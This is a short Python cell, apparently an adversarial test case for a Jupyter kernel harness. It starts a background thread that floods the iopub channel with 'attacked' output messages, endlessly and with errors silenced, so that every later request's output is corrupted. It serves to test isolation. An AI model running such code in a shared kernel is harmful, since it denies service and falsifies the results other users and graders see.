# tries: messages of every later request's, on iopub, without end and as fast as they go
# earns: add, descend, squares, total
# %% own
import threading


def flood():
    kernel = get_ipython().kernel
    while True:
        try:
            kernel.session.send(
                kernel.iopub_socket,
                "stream",
                {"name": "stdout", "text": "attacked " * 1000},
                parent=kernel.get_parent(),
                ident=b"stream",
            )
        except Exception:
            pass


threading.Thread(target=flood, daemon=True).start()
